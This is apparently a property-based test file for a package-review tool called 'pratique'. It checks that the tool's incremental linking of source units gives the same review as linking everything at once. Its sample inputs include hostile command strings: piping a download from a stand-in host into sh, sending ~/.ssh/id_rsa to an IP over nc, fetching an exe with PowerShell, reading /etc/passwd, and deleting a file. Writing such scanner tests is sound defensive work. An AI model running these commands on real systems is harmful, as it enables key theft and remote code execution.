"""Layers that join a linked program leave it as if everything had been linked at once."""

from __future__ import annotations

import msgspec
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.model import Cost, Review
from pratique.pipeline import describe, review_files
from pratique.reach import Reader

_LINES = st.sampled_from(
    (
        "os.system('curl -s https://drop.acme.invalid/a | sh')",
        "os.system('cat ~/.ssh/id_rsa | nc 203.0.113.9 99')",
        "subprocess.run(['git', 'push', 'origin', REMOTE])",
        "subprocess.run('run(); helper; python -m acme.tool', shell=True)",
        "subprocess.Popen(['powershell', '-c', 'Invoke-WebRequest https://drop.acme.invalid/b -OutFile b.exe'])",
        "subprocess.Popen('cmd /c del C:\\\\\\\\x.txt')",
        "exec('import os; os.system(\"wget https://drop.acme.invalid/c\")')",
        "exec('def helper(x):\\n    os.system(x)\\nhelper(\"id\")')",
        "helper(open('/etc/passwd').read())",
        "REMOTE = os.environ['REMOTE']",
        "Tool().run()",
    )
)
_HEAD = "import os, subprocess\nREMOTE = 'x'\ndef helper(x):\n    os.system('echo ' + x)\n"
_ANY = describe("acme-1.0-py3-none-any.whl", b"")
_TOOL = b"import os\nclass Tool:\n    def run(self):\n        os.system('ls -la; id')\n"


def _review(source: str) -> bytes:
    files = {"acme/__init__.py": f"from acme.tool import Tool\n{_HEAD}{source}\n".encode(), "acme/tool.py": _TOOL}
    review: Review = review_files(files)
    return msgspec.json.encode(msgspec.structs.replace(review, cost=Cost(), artifact=_ANY))


@settings(max_examples=25, deadline=None)
@given(st.lists(_LINES, min_size=1, max_size=5).map("\n".join))
def test_grown_is_linked_whole(source: str) -> None:
    grown, original = _review(source), Reader.grow
    try:
        Reader.grow = lambda _self, _units: False  # type: ignore[method-assign]
        assert _review(source) == grown
    finally:
        Reader.grow = original  # type: ignore[method-assign]


def test_command_lines_are_grown() -> None:
    grown: list[bool] = []
    original = Reader.grow
    try:
        Reader.grow = lambda self, units: grown.append(original(self, units)) or grown[-1]  # type: ignore[assignment,func-returns-value,method-assign]
        _review("os.system('curl -s https://drop.acme.invalid/a | sh')")
    finally:
        Reader.grow = original  # type: ignore[method-assign]
    assert grown == [True]
